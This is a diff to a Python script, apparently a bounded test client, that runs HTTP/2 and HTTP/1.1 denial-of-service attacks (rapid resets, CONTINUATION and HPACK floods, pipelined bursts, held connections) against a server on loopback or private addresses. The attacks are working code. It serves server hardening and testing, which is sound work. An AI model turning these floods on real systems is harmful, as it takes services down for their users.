@@ -1,12 +1,19 @@
 #!/usr/bin/python3
 # SPDX-License-Identifier: Apache-2.0
-"""One client that means harm, for the attack rows: bounded in bytes and time, to loopback alone.
+"""One client that means harm, for the attack rows and tests: bounded in bytes, connections and time, to loopback or a private IPv4 address alone.
 
-attacks.py NAME PORT SECONDS     prints one line of JSON: bytes sent, requests begun, connections made, and how the last one ended
+attacks.py NAME [HOST:]PORT SECONDS [MEGABYTES]
+
+Prints one line of JSON: bytes sent, requests begun, connections made, answers by status, whether the answers came in order (of `pipelined`,
+where they tell), how connections ended and how often, and in one word. SIGTERM ends the attack before its time; it still prints.
 """
 
+import collections
+import ipaddress
 import json
+import re
 import select
+import signal
 import socket
 import struct
 import sys
@@ -15,7 +22,8 @@ import time
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
 END_STREAM, ACK, END_HEADERS = 1, 1, 4
-MOST_BYTES = 256 << 20
+MOST_MEGABYTES, MOST_CONNECTIONS = 256, 20_000
+PIPELINED = 512  # requests of one burst, each with a path of its own
 # HPACK (RFC 7541): GET, http, "/x", :authority "a" without indexing.
 REQUEST = b"\x82\x86\x04\x02/x\x01\x01a"
 POST = b"\x83\x86\x04\x02/x\x01\x01a"
@@ -38,23 +46,85 @@ def indexed_field(name, value):
     return b"\x40" + text(name) + text(value)
 
 
+class Deadline:
+    """When the attack is over: after its time, or when somebody ends it."""
+
+    def __init__(self, seconds):
+        self.at = time.monotonic() + seconds
+
+    def left(self):
+        return max(0.0, self.at - time.monotonic())
+
+    def end(self, *_):
+        self.at = 0.0
+
+
+class Http2Frames:
+    """Looks for what ends the connection, GOAWAY with an error, and for the answer to a PING."""
+
+    def __init__(self):
+        self.rest = b""  # a frame that is not here whole
+        self.goaway, self.pinged = "", False
+
+    def take(self, data):
+        data, at = self.rest + data, 0
+        while at + 9 <= len(data):
+            size = int.from_bytes(data[at : at + 3], "big")
+            if at + 9 + size > len(data):
+                break
+            if data[at + 3] == GOAWAY and (error := int.from_bytes(data[at + 13 : at + 17], "big")):
+                self.goaway = f"GOAWAY {error}"
+            self.pinged = self.pinged or data[at + 3] == PING
+            at += 9 + size
+        self.rest = data[at:]
+
+
+class Http1Answers:
+    """Counts answers by status. Where they redirect to a numbered path, the numbers must follow each other."""
+
+    HEAD = re.compile(rb"HTTP/1\.1 (\d+) .*?\r\n\r\n", re.DOTALL)
+    NUMBER = re.compile(rb"\r\nlocation: \S*/(\d+)\r\n", re.IGNORECASE)
+
+    def __init__(self):
+        self.rest, self.statuses, self.goaway = b"", collections.Counter(), ""
+        self.numbered, self.in_order = 0, None  # None: no answer has told
+
+    def take(self, data):
+        data, end = self.rest + data, 0
+        for head in self.HEAD.finditer(data):
+            end = head.end()
+            self.statuses[head[1].decode()] += 1
+            if number := self.NUMBER.search(head[0]):
+                self.in_order = self.in_order is not False and int(number[1]) == self.numbered % PIPELINED
+                self.numbered += 1
+        # Of a body nothing is kept but what might begin a head.
+        begun = data.find(b"HTTP/1.1 ", end)
+        self.rest = data[begun:] if begun >= 0 else data[max(end, len(data) - 8) :]
+
+
 class Connection:
     """Sends what it is given and reads what comes, so that nobody waits for it; notes how the server ended it."""
 
-    def __init__(self, port, http2=True):
-        self.socket = socket.create_connection(("127.0.0.1", port), source_address=("127.0.0.2", 0))  # not the bystander's address
+    def __init__(self, address, deadline, http2=True):
+        self.deadline, self.sent, self.ended = deadline, 0, ""
+        self.reader = Http2Frames() if http2 else Http1Answers()
+        source = ("127.0.0.2", 0) if address[0].startswith("127.") else None  # not the bystander's address
+        try:
+            self.socket = socket.create_connection(address, timeout=2, source_address=source)
+        except OSError:
+            self.socket, self.ended = socket.socket(), "refused"
+            return
         self.socket.setblocking(False)
-        self.sent, self.received, self.ended, self.http2, self.tail = 0, 0, "", http2, b""
         if http2:
             self.send(PREFACE + frame(SETTINGS, 0, 0))
 
-    def send(self, data, until=None):
+    def send(self, data):
         """False when the connection is over, or time is."""
         view = memoryview(data)
         while view and not self.ended:
-            if until and time.monotonic() > until:
+            if not self.deadline.left():
                 return False
-            readable, writable, _ = select.select([self.socket], [self.socket], [], 0.2)
+            readable, writable, _ = select.select([self.socket], [self.socket], [], 0.05)
             if readable:
                 self.read()
             if writable and not self.ended:
@@ -63,71 +133,84 @@ class Connection:
                 except BlockingIOError:
                     continue
                 except OSError:
-                    self.ended = self.ended or "reset"
+                    self.read_last()
                     break
                 self.sent, view = self.sent + count, view[count:]
         return not self.ended
 
     def read(self):
+        """False when nothing more can come."""
         try:
             data = self.socket.recv(1 << 18)
         except BlockingIOError:
-            return
+            return True
         except OSError:
             self.ended = self.ended or "reset"
-            return
+            return False
         if not data:
             self.ended = self.ended or "closed"
-            return
-        self.received += len(data)
-        if self.http2:
-            self.look_for_goaway(data)
+            return False
+        self.reader.take(data)
+        self.ended = self.ended or self.reader.goaway
+        return True
 
-    def look_for_goaway(self, data):
-        """GOAWAY with an error; a frame cut by the end of `data` is kept for the next."""
-        data = self.tail + data
-        at = 0
-        while at + 9 <= len(data):
-            size = int.from_bytes(data[at : at + 3], "big")
-            if at + 9 + size > len(data):
-                break
-            if data[at + 3] == GOAWAY and (error := int.from_bytes(data[at + 13 : at + 17], "big")):
-                self.ended = f"GOAWAY {error}"
-            at += 9 + size
-        self.tail = data[at:]
+    def read_last(self):
+        """The server closed while we sent: what it said before is still here."""
+        while not self.ended and select.select([self.socket], [], [], 0.05)[0] and self.read():
+            continue
+        self.ended = self.ended or "reset"
 
-    def wait(self, seconds):
+    def wait(self, seconds, until_ping=False):
+        """For the server to end it, or to answer a PING. What is here is read even when no time is left."""
         until = time.monotonic() + seconds
-        while not self.ended and (left := until - time.monotonic()) > 0:
-            if select.select([self.socket], [], [], left)[0]:
+        while not self.ended and not (until_ping and self.reader.pinged):
+            left = max(0.0, min(self.deadline.left(), until - time.monotonic()))
+            if select.select([self.socket], [], [], min(left, 0.05))[0]:
                 self.read()
+            elif not left:
+                return
 
     def close(self):
         self.socket.close()
 
 
 class Attack:
-    def __init__(self, port, seconds):
-        self.port, self.until = port, time.monotonic() + seconds
+    def __init__(self, address, seconds, megabytes=MOST_MEGABYTES):
+        self.address, self.deadline, self.most_bytes = address, Deadline(seconds), megabytes << 20
         self.sent = self.requests = self.connections = 0
-        self.ended = "served"
+        self.endings, self.statuses, self.in_order = collections.Counter(), collections.Counter(), None
 
     def open(self, http2=True):
         self.connections += 1
-        return Connection(self.port, http2)
+        return Connection(self.address, self.deadline, http2)
 
     def over(self):
-        return time.monotonic() > self.until or self.sent > MOST_BYTES
+        return not self.deadline.left() or self.sent > self.most_bytes or self.connections >= MOST_CONNECTIONS
 
     def done_with(self, connection):
+        connection.wait(0)
         self.sent += connection.sent
-        if connection.ended:
-            self.ended = connection.ended
+        self.endings[connection.ended or "served"] += 1
+        if isinstance(connection.reader, Http1Answers):
+            self.statuses += connection.reader.statuses
+            if connection.reader.in_order is not None:
+                self.in_order = self.in_order is not False and connection.reader.in_order
         connection.close()
+
+    def ended(self):
+        """In one word: what the server said of it if it said anything, else what became of most connections."""
+        said = [ending for ending in self.endings if ending.startswith("GOAWAY")]
+        return max(said or self.endings, key=self.endings.get, default="served")
+
+    def report(self):
+        return {
+            "bytes": self.sent, "requests": self.requests, "connections": self.connections, "answers": self.statuses, "in_order": self.in_order,
+            "endings": self.endings, "ended": self.ended(),
+        }  # fmt: skip
 
     def repeat(self, connection, data, each=0):
         """The same bytes again and again, until the server ends it or time is up."""
-        while not self.over() and connection.sent < MOST_BYTES and connection.send(data, self.until):
+        while not self.over() and connection.sent < self.most_bytes and connection.send(data):
             self.requests += each
         self.done_with(connection)
 
@@ -138,9 +221,9 @@ class Attack:
         block = REQUEST + cookie
         connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
         for stream in range(3, 3 + 2 * 119, 2):
-            connection.send(frame(HEADERS, END_HEADERS, stream, REQUEST + b"\xbe" * 440), self.until)
+            connection.send(frame(HEADERS, END_HEADERS, stream, REQUEST + b"\xbe" * 440))
             self.requests += 1
-        connection.wait(max(0.0, self.until - time.monotonic()))
+        connection.wait(self.deadline.left())
         self.done_with(connection)
 
     def hpack_references(self):
@@ -150,7 +233,7 @@ class Attack:
         while not self.over() and not connection.ended:
             parts = [frame(HEADERS, END_STREAM, stream, REQUEST + b"\xbe" * 16000)]
             parts += [frame(CONTINUATION, END_HEADERS if i == 7 else 0, stream, b"\xbe" * 16000) for i in range(8)]
-            if not connection.send(b"".join(parts), self.until):
+            if not connection.send(b"".join(parts)):
                 break
             self.requests, stream = self.requests + 1, stream + 2
         self.done_with(connection)
@@ -173,27 +256,32 @@ class Attack:
         self.repeat(self.open(), frame(0x77, 0, 0) * 4096)
 
     def pipelined(self):
-        self.repeat(self.open(http2=False), b"GET /x HTTP/1.1\r\nHost: a\r\n\r\n" * 512, each=512)
+        burst = b"".join(b"GET /x/%d HTTP/1.1\r\nHost: a\r\n\r\n" % i for i in range(PIPELINED))
+        self.repeat(self.open(http2=False), burst, each=PIPELINED)
 
     def connection_options(self):
         head = b"GET /x HTTP/1.1\r\nHost: a\r\n" + b"".join(b"x%d: 1\r\n" % i for i in range(94)) + b"Connection: " + b"a," * 14_000 + b"a\r\n\r\n"
         while not self.over():
             connection = self.open(http2=False)
-            while not self.over() and connection.send(head, self.until):
+            while not self.over() and connection.send(head):
                 self.requests += 1
                 connection.wait(0.001)
             self.done_with(connection)
 
     # --- many connections
     def resets(self, second_frame):
-        """HEADERS and what makes the stream end at once, on one connection after the other."""
+        """HEADERS and what makes the stream end at once, on one connection after the other. Each is given up when the server has seen all of it."""
+        one = lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST) + second_frame(stream)
+        bursts = [b"".join(one(stream) for stream in range(first, first + 200, 2)) for first in range(1, 2001, 200)]
         while not self.over():
-            connection, stream = self.open(), 1
-            while stream < 2000 and not self.over():
-                burst = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, REQUEST) + second_frame(s) for s in range(stream, stream + 200, 2))
-                if not connection.send(burst, self.until):
+            connection = self.open()
+            for burst in bursts:
+                if self.over() or not connection.send(burst):
                     break
-                self.requests, stream = self.requests + 100, stream + 200
+                self.requests += 100
+            else:
+                connection.send(frame(PING, 0, 0, b"all seen"))
+                connection.wait(1, until_ping=True)
             self.done_with(connection)
 
     def rapid_resets(self):
@@ -206,8 +294,8 @@ class Attack:
         held = []
         while len(held) < 260 and not self.over():
             held.append(self.open(http2=False))
-        for connection in held:
-            connection.wait(max(0.0, self.until - time.monotonic()) / len(held))
+        for i, connection in enumerate(held):
+            connection.wait(self.deadline.left() / (len(held) - i))
         for connection in held:
             self.done_with(connection)
 
@@ -228,14 +316,24 @@ ATTACKS = {
 }
 
 
+def address_of(text):
+    """(host, port) of "[HOST:]PORT"; only loopback and private addresses."""
+    host, _, port = text.rpartition(":")
+    host = ipaddress.IPv4Address(host or "127.0.0.1")
+    if not host.is_private:
+        raise ValueError(f"{host} is no private address")
+    return str(host), int(port)
+
+
 def main(arguments):
-    name, port, seconds = arguments
+    name, address, seconds, *megabytes = arguments
     if name not in ATTACKS:
         print(f"no attack '{name}'; there are {', '.join(ATTACKS)}", file=sys.stderr)
         return 2
-    attack = Attack(int(port), float(seconds))
+    attack = Attack(address_of(address), float(seconds), *map(int, megabytes))
+    signal.signal(signal.SIGTERM, attack.deadline.end)
     getattr(attack, name)()
-    print(json.dumps({"bytes": attack.sent, "requests": attack.requests, "connections": attack.connections, "ended": attack.ended}))
+    print(json.dumps(attack.report()))
     return 0
 
 
